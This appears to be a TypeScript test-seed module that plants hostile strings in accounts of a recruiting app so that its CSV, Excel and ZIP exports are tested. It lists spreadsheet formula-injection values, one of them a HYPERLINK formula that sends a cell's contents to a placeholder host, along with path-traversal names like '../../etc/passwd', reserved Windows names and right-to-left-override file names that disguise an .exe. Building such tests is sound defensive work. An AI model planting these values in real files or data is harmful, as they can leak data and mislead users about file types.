/**
 * Hostile values the seed plants in a slice of every account it makes
 * (docs/EXPORTS.md#names-and-cells), so the exports are always exercised against formula injection,
 * path traversal, reserved Windows names, bidi spoofing, normalization and case collisions, and
 * Excel's limits.
 *
 * The lists are exported so export tests can look for each value in what they produce.
 * None holds NUL (U+0000) or a lone surrogate: PostgreSQL cannot store them and the API rejects
 * them, so they cannot be in an account's data (the export's own tests feed them directly).
 */

/** Values a spreadsheet would run as a formula, plus `'` which the CSV escaping must round-trip. */
export const FORMULA_VALUES = [
  '=HYPERLINK("http://x/?"&A1,"cv")',
  "+44 20 7946 0000",
  "-5",
  "@SUM(A1)",
  "\tTab-led",
  "\rCR-led",
  "\nLF-led",
  "'already",
] as const;

/** Values that try to break out of their CSV cell. */
export const CELL_BREAKERS = ["a,=1+1", 'x";=1+2'] as const;

/** Path traversal and absolute paths, as file or folder names. */
export const PATH_NAMES = ["../../etc/passwd", "/abs", "C:\\x", "a\\b", "..", "."] as const;

/** Names Windows cannot create or silently changes (reserved devices, trailing dot/space, `:?`). */
export const WINDOWS_NAMES = [
  "CON",
  "nul.txt",
  "COM1",
  "CONIN$",
  "Sales.",
  "Sales ",
  "a:b?",
  '""',
  "   ",
] as const;

/** Emoji, including ZWJ sequences and a flag (several code points, one grapheme). */
export const EMOJI = ["👩‍💻", "👨‍👩‍👧‍👦", "🇬🇧", "🧑🏽‍🚀"] as const;

/** Right-to-left override, left-to-right mark and isolates (U+202E, U+200E, U+2066/U+2069). */
export const BIDI_VALUES = ["cv\u202Efdp.exe", "\u200Ecv", "\u2066cv\u2069"] as const;

/** `é` composed (NFC) and decomposed (NFD): equal to a reader, different bytes. */
export const NFC_E = "\u00e9";
export const NFD_E = "e\u0301";

/** A job title of 300 characters (Excel sheet names stop at 31, file names at 255 bytes). */
export const LONG_JOB_TITLE = `Senior Principal Staff ${"Distributed Systems ".repeat(14)}Engineer`
  .padEnd(300, "X")
  .slice(0, 300);

/** The name the seed gives to many candidates (docs/EXPORTS.md#zip-entry-names). */
export const DUPLICATE_NAME = { first_name: "Maria", last_name: "Garcia" } as const;

/** A note of 40,000 characters: over Excel's 32,767-character cell limit. */
export const LONG_NOTE = (() => {
  const sentence = "Long interview note: candidate discussed architecture, trade-offs and team fit. ";
  return sentence.repeat(Math.ceil(40_000 / sentence.length)).slice(0, 40_000);
})();

/** A note of 300 line feeds: over Excel's 253 line feeds per cell. */
export const LINE_FEED_NOTE = `Call log${"\n".repeat(300)}end`;

/** Characters XML 1.0 cannot hold (vertical tab, U+FFFF) inside otherwise ordinary text. */
export const XML_ILLEGAL_TEXT = "Vertical\u000Btab and a non-character \uFFFF in one text";

/** Person names (first, last) carried by the planted candidates. */
export const HOSTILE_PERSON_NAMES: readonly { first_name: string; last_name: string }[] = [
  { first_name: FORMULA_VALUES[0], last_name: "Injection" },
  { first_name: FORMULA_VALUES[1], last_name: "Phone" },
  { first_name: FORMULA_VALUES[2], last_name: "Minus" },
  { first_name: FORMULA_VALUES[3], last_name: "At" },
  { first_name: FORMULA_VALUES[4], last_name: "Tab" },
  { first_name: FORMULA_VALUES[5], last_name: "Return" },
  { first_name: FORMULA_VALUES[6], last_name: "Newline" },
  { first_name: FORMULA_VALUES[7], last_name: "Quote" },
  { first_name: CELL_BREAKERS[0], last_name: CELL_BREAKERS[1] },
  { first_name: "../../etc/passwd", last_name: "/abs" },
  { first_name: "C:\\x", last_name: "a\\b" },
  { first_name: "..", last_name: "." },
  { first_name: "CON", last_name: "nul.txt" },
  { first_name: "COM1", last_name: "CONIN$" },
  { first_name: "Sales.", last_name: "Sales " },
  { first_name: "a:b?", last_name: '""' },
  { first_name: "   ", last_name: "   " },
  { first_name: `Zoë ${EMOJI[0]}`, last_name: `Nguyễn ${EMOJI[1]}` },
  { first_name: `${EMOJI[2]} ${EMOJI[3]}`, last_name: "Astronaut" },
  { first_name: BIDI_VALUES[0], last_name: "Spoof" },
  { first_name: `${BIDI_VALUES[1]}Anna`, last_name: `${BIDI_VALUES[2]}Ali` },
  { first_name: "\u0645\u062d\u0645\u062f", last_name: "\u05db\u05d4\u05df" },
  { first_name: `Ren${NFC_E}`, last_name: `Dub${NFC_E}` },
  { first_name: `Ren${NFD_E}`, last_name: `Dub${NFD_E}` },
  { first_name: "VERTICAL\u000BTab", last_name: "Non\uFFFFchar" },
  DUPLICATE_NAME,
  DUPLICATE_NAME,
];

/**
 * Job titles of the hostile openings (each becomes a `Resumes/<Job opening>/` folder). Not the
 * blank ones: the API refuses a title without a visible character, so an account cannot hold one
 * (the backup's folder naming still copes with them, tested on its own).
 */
export const HOSTILE_JOB_TITLES: readonly string[] = [
  ...FORMULA_VALUES,
  ...CELL_BREAKERS,
  ...PATH_NAMES,
  ...WINDOWS_NAMES.filter((name) => name.trim() !== ""),
  `${EMOJI[0]} Engineer`,
  ...BIDI_VALUES,
  LONG_JOB_TITLE,
  `Caf${NFC_E} Manager`,
  `Caf${NFD_E} Manager`,
  "Sales Lead",
  "SALES LEAD",
  "Q1/Q2: [Sales]*",
  "History",
  "'x'",
  "A forty character long job opening title",
];

/** Stage names given to some stages of the hostile openings (`Resumes/<Job>/<Stage>/`). */
export const HOSTILE_STAGE_NAMES: readonly string[] = [
  "CON",
  "a:b?",
  "Sales.",
  "../../etc/passwd",
  '""',
  "   ",
  `${EMOJI[0]} Tech Screen`,
  "=1+1",
  "Phone\u202EScreen",
  `Interview ${NFD_E}`,
  "nul.txt",
  "C:\\x",
];

/**
 * CV file names of the planted candidates. Pairs come first: planted candidates 2k and 2k+1 apply
 * to the same opening and sit in the same stage, so `resume.pdf` twice, `CV.pdf`/`cv.pdf` and
 * NFC/NFD `Résumé.pdf` collide inside one `Resumes/<Job>/<Stage>/` folder.
 */
export const HOSTILE_FILE_NAMES: readonly string[] = [
  "resume.pdf",
  "resume.pdf",
  "CV.pdf",
  "cv.pdf",
  `R${NFC_E}sum${NFC_E}.pdf`,
  `R${NFD_E}sum${NFD_E}.pdf`,
  ...PATH_NAMES,
  ...WINDOWS_NAMES,
  "cv\u202Efdp.exe",
  "\u200Ecv.pdf",
  "\u2066cv\u2069.docx",
  `${EMOJI[0]} CV.pdf`,
  `${FORMULA_VALUES[0]}.pdf`,
  `${"x".repeat(300)}.pdf`,
];

/** Note bodies (activities) of the planted candidates. */
export const HOSTILE_NOTES: readonly string[] = [
  LONG_NOTE,
  LINE_FEED_NOTE,
  XML_ILLEGAL_TEXT,
  FORMULA_VALUES[0],
  FORMULA_VALUES[7],
  CELL_BREAKERS[1],
  `${BIDI_VALUES[0]} ${EMOJI[0]}`,
];

/** Text custom field values of the planted candidates. */
export const HOSTILE_CUSTOM_FIELD_VALUES: readonly string[] = [
  ...FORMULA_VALUES,
  ...CELL_BREAKERS,
  XML_ILLEGAL_TEXT,
  EMOJI[1],
  BIDI_VALUES[0],
];

/** Tags (all distinct byte strings: the tag name is unique per account). */
export const HOSTILE_TAGS: readonly string[] = [
  FORMULA_VALUES[0],
  "+VIP",
  "-5",
  "@SUM(A1)",
  "'already",
  "a,=1+1",
  EMOJI[0],
  `R${NFC_E}f${NFC_E}r${NFC_E}`,
  `R${NFD_E}f${NFD_E}r${NFD_E}`,
  "CON",
  "vip",
  "VIP",
  "\u202Egnp.exe",
];

/** Every hostile string above, for tests that check them all. */
export const ALL_HOSTILE_STRINGS: readonly string[] = [
  ...HOSTILE_PERSON_NAMES.flatMap((n) => [n.first_name, n.last_name]),
  ...HOSTILE_JOB_TITLES,
  ...HOSTILE_STAGE_NAMES,
  ...HOSTILE_FILE_NAMES,
  ...HOSTILE_NOTES,
  ...HOSTILE_CUSTOM_FIELD_VALUES,
  ...HOSTILE_TAGS,
];

/** How many planted candidates carry hostile values: enough for every list to appear once. */
export const PLANTED_CANDIDATES = Math.max(
  HOSTILE_PERSON_NAMES.length,
  HOSTILE_FILE_NAMES.length,
  HOSTILE_NOTES.length,
  HOSTILE_CUSTOM_FIELD_VALUES.length,
  HOSTILE_TAGS.length,
);
